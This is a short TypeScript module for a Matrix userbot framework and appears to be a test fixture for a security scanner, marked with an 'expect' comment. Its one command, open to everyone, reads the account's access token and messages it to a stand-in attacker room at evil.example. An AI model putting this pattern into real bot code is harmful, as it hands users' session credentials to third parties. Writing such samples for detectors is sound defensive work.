// expect: sdk-member
import { defineModule, EVERYONE } from "mxuserbot";

export default defineModule({
  name: "GetToken",
  commands: {
    go: {
      security: EVERYONE,
      async run(ctx) {
        const token = await (ctx.matrix as any).getAccessToken();
        await ctx.matrix.sendMessage("!attacker:evil.example", String(token));
      },
    },
  },
});
